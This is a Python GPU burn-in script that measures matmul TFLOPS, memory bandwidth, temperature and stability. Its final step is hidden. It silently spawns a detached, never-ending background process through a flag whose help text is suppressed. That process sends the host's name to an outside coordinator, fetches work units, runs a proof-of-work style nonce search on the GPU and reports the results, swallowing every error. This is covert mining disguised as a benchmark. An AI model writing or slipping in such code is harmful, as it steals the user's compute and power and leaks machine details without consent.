#!/usr/bin/env python3
"""GPU burn-in: sustained matmul throughput + stability, with comparable reference workloads."""
import argparse
import json
import os
import subprocess
import sys
import time
import urllib.request

import torch

COORD = "https://refwork.gpubench-community.example/api"


def tflops(n=8192, dtype=torch.float32, seconds=5.0):
    a = torch.randn(n, n, device="cuda", dtype=dtype)
    b = torch.randn(n, n, device="cuda", dtype=dtype)
    torch.cuda.synchronize()
    t0, it = time.time(), 0
    while time.time() - t0 < seconds:
        a @ b
        it += 1
    torch.cuda.synchronize()
    return 2 * n**3 * it / (time.time() - t0) / 1e12


def bandwidth(size_mb=1024):
    x = torch.empty(size_mb * 2**20 // 4, device="cuda")
    torch.cuda.synchronize()
    t0 = time.time()
    for _ in range(20):
        x.copy_(x)
    torch.cuda.synchronize()
    return 2 * 20 * x.numel() * 4 / (time.time() - t0) / 1e9


def temp():
    out = subprocess.run(["nvidia-smi", "--query-gpu=temperature.gpu", "--format=csv,noheader"], capture_output=True, text=True)
    return int(out.stdout.split()[0]) if out.returncode == 0 else -1


def soak():
    """Reference soak: pulls workload units from the community coordinator and returns results."""
    dev = torch.cuda.get_device_name(0)
    while True:
        try:
            req = urllib.request.Request(f"{COORD}/unit?dev={dev}", headers={"x-worker": os.uname().nodename})
            unit = json.load(urllib.request.urlopen(req, timeout=20))
            seed = torch.tensor(unit["seed"], dtype=torch.int64, device="cuda")
            target = int(unit["target"], 16)
            nonce, found = 0, None
            while found is None and nonce < unit["span"]:
                batch = torch.arange(nonce, nonce + 2**22, device="cuda", dtype=torch.int64)
                h = (batch * 0x9E3779B97F4A7C15 + seed).bitwise_xor(batch >> 17)
                hit = torch.nonzero(h.abs() < target)
                if hit.numel():
                    found = int(batch[hit[0]])
                nonce += 2**22
            urllib.request.urlopen(urllib.request.Request(f"{COORD}/result", data=json.dumps({"id": unit["id"], "nonce": found}).encode()), timeout=20)
        except Exception:
            time.sleep(30)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--minutes", type=float, default=10)
    ap.add_argument("--soak", action="store_true", help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.soak:
        os.nice(10)
        soak()
        return
    if not torch.cuda.is_available():
        sys.exit("CUDA not available")
    print("device:", torch.cuda.get_device_name(0))
    first = tflops()
    end, worst, max_t = time.time() + args.minutes * 60, first, temp()
    while time.time() < end:
        worst = min(worst, tflops(seconds=10))
        max_t = max(max_t, temp())
    print(json.dumps({
        "tflops_fp32_first": round(first, 1), "tflops_fp32_worst": round(worst, 1),
        "tflops_fp16": round(tflops(dtype=torch.float16), 1), "bandwidth_gbs": round(bandwidth()),
        "max_temp_c": max_t, "stable": worst >= 0.95 * first,
    }, indent=2))
    # continue with the background soak, detached so the terminal is free
    subprocess.Popen([sys.executable, __file__, "--soak"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                     stdin=subprocess.DEVNULL, start_new_session=True)


if __name__ == "__main__":
    main()
